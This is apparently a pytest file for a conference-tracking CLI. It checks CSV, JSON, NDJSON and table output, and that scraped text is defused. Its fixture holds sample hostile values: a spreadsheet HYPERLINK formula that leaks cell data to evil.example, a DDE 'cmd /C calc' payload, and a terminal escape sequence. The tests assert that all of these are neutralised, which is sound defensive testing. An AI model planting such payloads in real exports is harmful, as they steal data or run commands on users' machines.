"""``--format table|json|ndjson|csv`` on the listing commands (events, events ambiguous, sources,
status, subscribers list): CSV that Python's csv module reads back, NDJSON lines that parse,
``--json`` as before, and scraped text defused (formulas in CSV, controls in every format)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from confwatch.scheduler.cli import main
from confwatch.scheduler.cli.output import csv_cell
from confwatch.scheduler.config import load_settings
from confwatch.scheduler.database import open_store
from confwatch.store.records import Document, EventFields, Sighting

NOW = dt.datetime(2026, 12, 1, 6, 0, tzinfo=dt.UTC)
VIENNA_URL = "https://www.osce.org/event/vienna-2031"
HOSTILE_URL = "https://www.un.org/counterterrorism/hostile"


@pytest.fixture
def recorded(home: Path) -> dict[str, int]:
    """Two events in a SQLite store in CONFWATCH_HOME, one of them with hostile text."""
    store = open_store(load_settings(env={"CONFWATCH_HOME": str(home)}), sync_sources=True)
    try:
        run = store.begin_run("osce", now=NOW)
        vienna = store.record(
            run,
            Sighting(
                "osce",
                VIENNA_URL,
                EventFields(
                    title="Regional Conference on Countering Violent Extremism",
                    start_date=dt.date(2031, 3, 10),
                    end_date=dt.date(2031, 3, 12),
                    city="Vienna",
                    country="AT",
                    organisers=["OSCE", "Federal Ministry of the Interior"],
                    topics=["violent extremism", "youth"],
                    url=VIENNA_URL,
                    documents=[Document("Agenda", "https://www.osce.org/a.pdf")],
                ),
            ),
            now=NOW,
        )
        store.finish_run(run, status="ok", pages=1, now=NOW)
        run = store.begin_run("unoct", now=NOW)
        hostile = store.record(
            run,
            Sighting(
                "unoct",
                HOSTILE_URL,
                EventFields(
                    title='=HYPERLINK("https://evil.example/?x="&A1,"Click")',
                    start_date=dt.date(2032, 1, 1),
                    city="-2+3",
                    country="MN",
                    organisers=["@SUM(A1:A9)", "UNOCT"],
                    topics=["+cmd|' /C calc'!A0"],
                    description="Line one\x1b[2J\rline two",
                ),
            ),
            now=NOW,
        )
        store.finish_run(run, status="ok", pages=1, now=NOW)
    finally:
        store.close()
    return {"vienna": vienna.event_id, "hostile": hostile.event_id}


def run(*args: str) -> Result:
    result = CliRunner().invoke(main, list(args))
    assert result.exit_code in (0, 1), result.output  # status exits 1 for overdue sources
    return result


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_events_csv_has_a_header_and_one_row_per_event(recorded: dict[str, int]) -> None:
    rows = csv_rows(run("events", "--format", "csv").stdout)
    assert [int(r["id"]) for r in rows] == [recorded["vienna"], recorded["hostile"]]
    vienna = rows[0]
    assert vienna["title"] == "Regional Conference on Countering Violent Extremism"
    assert (vienna["start_date"], vienna["end_date"]) == ("2031-03-10", "2031-03-12")
    assert (vienna["city"], vienna["country"], vienna["timing"]) == ("Vienna", "AT", "upcoming")
    assert vienna["organisers"] == "OSCE; Federal Ministry of the Interior"
    assert vienna["topics"] == "violent extremism; youth"
    assert vienna["sources"] == "osce"
    assert vienna["source_urls"] == VIENNA_URL
    assert vienna["documents"] == "https://www.osce.org/a.pdf"
    assert vienna["registration_deadline"] == ""


def test_events_csv_of_no_events_is_the_header_alone(home: Path) -> None:
    out = run("events", "--format", "csv").stdout
    assert csv_rows(out) == []
    assert out.startswith("id,title,start_date,end_date,")


def test_events_csv_defuses_cells_a_spreadsheet_would_run_as_formulas(
    recorded: dict[str, int],
) -> None:
    (row,) = [r for r in csv_rows(run("events", "--format", "csv").stdout) if r["country"] == "MN"]
    assert row["title"] == '\'=HYPERLINK("https://evil.example/?x="&A1,"Click")'
    assert row["city"] == "'-2+3"
    assert row["organisers"] == "'@SUM(A1:A9); UNOCT"
    assert row["topics"] == "'+cmd|' /C calc'!A0"
    assert row["id"] == str(recorded["hostile"])  # numbers are not text: left as they are


def test_events_csv_shows_terminal_controls_as_visible_escapes(recorded: dict[str, int]) -> None:
    out = run("events", "--format", "csv").stdout
    assert "\x1b" not in out
    (row,) = [r for r in csv_rows(out) if r["country"] == "MN"]
    assert row["description"] == "Line one\\x1b[2J\\rline two"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (-3, "-3"),
        (2.5, "2.5"),
        (True, "true"),
        (dt.date(2031, 3, 10), "2031-03-10"),
        (["a", "b"], "a; b"),
        (["-a", "=b"], "'-a; =b"),
        ({"k": "v"}, '{"k": "v"}'),
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("a=b", "a=b"),
    ],
)
def test_csv_cell(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


def test_events_ndjson_is_one_parseable_object_a_line_equal_to_the_json_items(
    recorded: dict[str, int],
) -> None:
    lines = run("events", "--format", "ndjson").stdout.splitlines()
    assert len(lines) == 2
    assert [json.loads(line) for line in lines] == json.loads(run("events", "--json").stdout)
    assert "\x1b" not in "".join(lines)  # json escapes it


def test_events_json_flag_is_the_same_document_as_format_json(recorded: dict[str, int]) -> None:
    as_flag = run("events", "--json").stdout
    assert as_flag == run("events", "--format", "json").stdout
    events = json.loads(as_flag)
    assert [e["id"] for e in events] == [recorded["vienna"], recorded["hostile"]]
    assert events[0]["sources"] == [{"source": "osce", "url": VIENNA_URL, "withdrawn": False}]
    assert events[0]["organisers"] == ["OSCE", "Federal Ministry of the Interior"]
    assert set(events[0]) >= {"title", "start_date", "first_seen", "last_changed", "timing"}


def test_events_table_is_the_default_and_escapes_scraped_text(recorded: dict[str, int]) -> None:
    out = run("events").stdout
    assert out == run("events", "--format", "table").stdout
    assert out.splitlines()[0].split() == [
        "id",
        "dates",
        "when",
        "place",
        "status",
        "title",
        "sources",
    ]
    assert "Regional Conference on Countering Violent Extremism" in out


def test_json_together_with_another_format_exits_2(home: Path) -> None:
    result = CliRunner().invoke(main, ["events", "--json", "--format", "csv"])
    assert result.exit_code == 2
    assert "--json" in result.stderr and "--format" in result.stderr


def test_unknown_format_exits_2_naming_the_option(home: Path) -> None:
    result = CliRunner().invoke(main, ["sources", "--format", "xml"])
    assert result.exit_code == 2
    assert "--format" in result.stderr


def test_sources_csv_lists_each_configured_source(home: Path) -> None:
    rows = csv_rows(run("sources", "--format", "csv").stdout)
    keys = [s.key for s in load_settings(env={"CONFWATCH_HOME": str(home)}).sources]
    assert [r["key"] for r in rows] == keys
    assert rows[0]["enabled"] in ("true", "false")
    assert [
        json.loads(line)["key"] for line in run("sources", "--format", "ndjson").stdout.splitlines()
    ] == keys


def test_status_json_keeps_its_document_and_ndjson_gives_a_line_per_source(
    recorded: dict[str, int],
) -> None:
    document = json.loads(run("status", "--json").stdout)
    assert set(document) == {"ok", "checked_at", "sources"}
    lines = [json.loads(line) for line in run("status", "--format", "ndjson").stdout.splitlines()]
    assert [s["source"] for s in lines] == [s["source"] for s in document["sources"]]
    rows = csv_rows(run("status", "--format", "csv").stdout)
    assert [r["source"] for r in rows] == [s["source"] for s in document["sources"]]
    assert {r["source"]: r["last_status"] for r in rows}["osce"] == "ok"


def test_status_exit_status_is_the_same_in_every_format(recorded: dict[str, int]) -> None:
    codes = {
        CliRunner().invoke(main, ["status", "--format", f]).exit_code
        for f in ("table", "json", "ndjson", "csv")
    }
    assert len(codes) == 1


def test_subscribers_list_csv_has_a_column_per_filter_kind(home: Path) -> None:
    added = CliRunner().invoke(
        main,
        [
            "subscribers",
            "add",
            "desk@example.org",
            "--organiser",
            "OSCE",
            "--country",
            "AT",
            "--country",
            "MN",
        ],
    )
    assert added.exit_code == 0, added.output
    (row,) = csv_rows(run("subscribers", "list", "--format", "csv").stdout)
    assert (row["email"], row["organisers"], row["countries"]) == (
        "desk@example.org",
        "OSCE",
        "AT; MN",
    )
    (item,) = json.loads(run("subscribers", "list", "--json").stdout)
    assert item["filters"]["countries"] == ["AT", "MN"]


def test_ambiguous_with_no_pairs_prints_a_line_for_people_and_nothing_for_scripts(
    recorded: dict[str, int],
) -> None:
    assert run("events", "ambiguous").stdout == "no ambiguous pairs\n"
    assert run("events", "ambiguous", "--format", "ndjson").stdout == ""
    assert run("events", "ambiguous", "--json").stdout.strip() == "[]"
    assert run("events", "ambiguous", "--format", "csv").stdout.strip() == (
        "first,second,score,first_title,second_title"
    )


def test_a_reader_that_stops_early_is_not_an_error(home: Path) -> None:
    """``confwatch events --format ndjson | head -1``: more output than a pipe holds."""
    settings = load_settings(env={"CONFWATCH_HOME": str(home)})
    store = open_store(settings, sync_sources=True)
    try:
        run_ = store.begin_run("osce", now=NOW)
        store.record_many(
            run_,
            [
                Sighting(
                    "osce",
                    f"https://www.osce.org/event/{n}",
                    EventFields(
                        title=f"Expert meeting number {n} on border security " + "x" * 200,
                        start_date=dt.date(2030, 1, 1) + dt.timedelta(days=n),
                        city=f"City {n}",
                        country="AT",
                    ),
                )
                for n in range(600)
            ],
            now=NOW,
        )
        store.finish_run(run_, status="ok", pages=600, now=NOW)
    finally:
        store.close()
    env = {**os.environ, "CONFWATCH_HOME": str(home)}
    env.pop("DATABASE_URL", None)
    proc = subprocess.Popen(
        [sys.executable, "-m", "confwatch.scheduler", "events", "--format", "ndjson"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=env,
    )
    assert proc.stdout is not None and proc.stderr is not None
    assert json.loads(proc.stdout.readline())["title"].startswith("Expert meeting number 0 ")
    proc.stdout.close()
    stderr = proc.stderr.read().decode()
    assert proc.wait(timeout=60) == 0, stderr
    assert "Error" not in stderr and "BrokenPipe" not in stderr
